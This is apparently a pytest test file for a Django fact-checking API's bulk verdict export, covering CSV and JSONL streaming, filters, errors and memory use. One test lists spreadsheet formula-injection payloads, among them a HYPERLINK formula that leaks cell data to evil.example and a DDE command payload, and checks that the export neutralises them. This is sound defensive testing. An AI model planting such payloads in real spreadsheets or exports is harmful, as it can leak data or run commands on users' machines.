"""The bulk export: CSV or JSON lines, the list's filters, streamed in constant memory."""

from __future__ import annotations

import csv
import gc
import io
import json
import time

import psutil
import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.db import connection
from rest_framework.test import APIClient

from claims.choices import ClaimStatus
from claims.models import Claim, Tag
from reviews import workflow
from reviews.api.consumer import CSV_COLUMNS
from reviews.models import Rating, Verdict, VerdictVersion
from tests.factories import ClaimFactory
from tests.reviews.desk import desk
from tests.reviews.test_consumer_api import publish

EXPORT = "/api/v1/verdicts/export/"


@pytest.fixture(autouse=True)
def _generous_rate_limits(settings):
    settings.API_ANON_RATE = "100000/minute"
    cache.clear()


def body_of(response) -> str:
    assert response.streaming, "the export is streamed, not built in memory"
    return b"".join(response.streaming_content).decode()


@pytest.mark.django_db
def test_jsonl_export_holds_the_same_verdicts_as_the_api():
    team = desk()
    verdicts = [publish(team, rating=rating) for rating in ("false", "true", "false")]
    client = APIClient()
    response = client.get(EXPORT, {"format": "jsonl"})
    assert response.status_code == 200 and response["Content-Type"].startswith("application/x-ndjson")
    assert 'filename="verdicts.jsonl"' in response["Content-Disposition"]
    lines = [json.loads(line) for line in body_of(response).splitlines()]
    listed = client.get("/api/v1/verdicts/").json()["results"]
    assert lines == listed and [line["id"] for line in lines] == [v.pk for v in verdicts]

    only_false = [json.loads(line) for line in body_of(client.get(EXPORT, {"format": "jsonl", "rating": "false"})).splitlines()]  # fmt: skip
    assert [line["id"] for line in only_false] == [verdicts[0].pk, verdicts[2].pk]


@pytest.mark.django_db
def test_csv_export_has_a_header_and_one_row_per_verdict():
    team = desk()
    verdicts = [publish(team, tags=("health", "covid"), claimant=f"Person {n}") for n in range(3)]
    response = APIClient().get(EXPORT, {"format": "csv", "claimant": "person 1"})
    assert response.status_code == 200, "?format= names the file format; DRF must not take it for a renderer"
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(body_of(response))))
    assert list(rows[0]) == CSV_COLUMNS
    assert [int(row["id"]) for row in rows] == [verdicts[1].pk]
    assert rows[0]["claimant"] == "Person 1" and rows[0]["tags"] == "covid;health" and rows[0]["rating"] == "false"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.django_db
def test_csv_export_neutralises_spreadsheet_formulas_in_every_cell():
    team = desk()
    for n, formula in enumerate(FORMULAS):
        claim = ClaimFactory(text=f"{formula} claim {n}", claimant=formula)
        claim.tags.add(Tag.objects.get_or_create(name=formula.strip()[:40])[0])
        workflow.claim_assign(team.chief, claim.pk, team.assignee)
        workflow.verdict_save_draft(
            team.assignee, claim.pk, {"rating": "false", "summary": formula, "analysis": formula + " analysis"}
        )
        workflow.review_submit(team.assignee, claim.pk)
        workflow.review_approve(team.chief, claim.pk)
    rows = list(csv.reader(io.StringIO(body_of(APIClient().get(EXPORT, {"format": "csv"})))))
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    summaries = {row[CSV_COLUMNS.index("summary")] for row in rows[1:]}
    assert summaries == {"'" + formula.strip() for formula in FORMULAS}  # kept (stripped), readable, inert


@pytest.mark.django_db
def test_a_bad_format_or_filter_is_a_400_in_the_api_error_shape():
    client = APIClient()
    wrong_format = client.get(EXPORT, {"format": "xml"})
    assert wrong_format.status_code == 400 and "format" in wrong_format.json()["error"]["fields"]
    wrong_filter = client.get(EXPORT, {"format": "csv", "updated_since": "soon"})
    assert wrong_filter.status_code == 400 and "updated_since" in wrong_filter.json()["error"]["fields"]
    refused = APIClient()
    refused.credentials(HTTP_AUTHORIZATION="Bearer wrong")
    assert refused.get(EXPORT).status_code == 401


def bulk_published(count: int) -> None:
    """``count`` minimal published verdicts, inserted by PostgreSQL itself (seconds, and no Python objects)."""
    users = get_user_model()
    author = users.objects.create(username="bulk-author")
    editor = users.objects.create(username="bulk-editor")
    rating = Rating.objects.get(slug="false")
    claim, verdict, version = Claim._meta.db_table, Verdict._meta.db_table, VerdictVersion._meta.db_table
    with connection.cursor() as cursor:
        cursor.execute(
            f"""INSERT INTO {claim} (text, text_key, claimant, appeared_at, language, priority, channel, status,
                                     created_at, updated_at)
                SELECT 'Bulk claim ' || n, 'bulk-' || n, 'Someone', '', 'en', 1, 'api', %s, now(), now()
                FROM generate_series(1, %s) AS n""",  # noqa: S608 - table names from the models
            [ClaimStatus.PUBLISHED, count],
        )
        cursor.execute(
            f"""INSERT INTO {verdict} (claim_id, slug, published_at, draft_summary, draft_analysis, draft_evidence)
                SELECT id, 'bulk-claim-' || id, now() + id * interval '1 microsecond', '', '', '[]'::jsonb
                FROM {claim} WHERE text_key LIKE 'bulk-%%'""",  # noqa: S608 - table names from the models
        )
        cursor.execute(
            f"""INSERT INTO {version} (verdict_id, number, kind, rating_id, summary, analysis, evidence, author_id,
                                       created_at, approved_by_id, approved_at, note)
                SELECT id, 1, 'submitted', %s, 'False.', '', '[]'::jsonb, %s, now(), %s, now(), ''
                FROM {verdict} WHERE slug LIKE 'bulk-claim-%%'""",  # noqa: S608 - table names from the models
            [rating.pk, author.pk, editor.pk],
        )
        cursor.execute(
            f"""UPDATE {verdict} AS v SET published_version_id = vv.id FROM {version} AS vv
                WHERE vv.verdict_id = v.id AND v.slug LIKE 'bulk-claim-%%'"""  # noqa: S608 - table names from the models
        )


@pytest.mark.integration
def test_exporting_100000_verdicts_streams_in_constant_memory(db):
    """The process's resident memory while the whole export is read stays flat after the first rows.

    Measured as RSS (psutil) rather than with tracemalloc: tracing every allocation made this
    run take over five minutes. The rows are inserted by PostgreSQL, so the process holds no
    freed memory from making them that a materialised export could hide in; a materialised
    export (~60 MB of JSON, several times that as model instances) would show at once.
    """
    total = 100_000
    bulk_published(total)
    process = psutil.Process()
    response = APIClient().get(EXPORT, {"format": "jsonl"})
    assert response.status_code == 200

    started = time.monotonic()
    gc.collect()
    baseline = process.memory_info().rss
    lines = size = 0
    rss_early = rss_peak = baseline
    for block in response.streaming_content:
        lines += block.count(b"\n")
        size += len(block)
        rss_peak = max(rss_peak, process.memory_info().rss)
        if lines <= total // 10:
            rss_early = rss_peak
    elapsed = time.monotonic() - started

    assert lines == total
    mb = 1_000_000
    print(f"{total} rows, {size / mb:.1f} MB in {elapsed:.1f}s; RSS +{(rss_early - baseline) / mb:.1f} MB after 10%, "
          f"+{(rss_peak - baseline) / mb:.1f} MB at the end")  # fmt: skip
    assert rss_peak - rss_early < 15 * mb, "memory kept growing with the rows exported"
    # Starting the stream costs 14–21 MB whatever the size (cursor buffers, compiled queries, malloc arenas
    # that depend on what the process ran before); a materialised export costs several times ``size``.
    assert rss_peak - baseline < size / 2, "the export was held in memory"
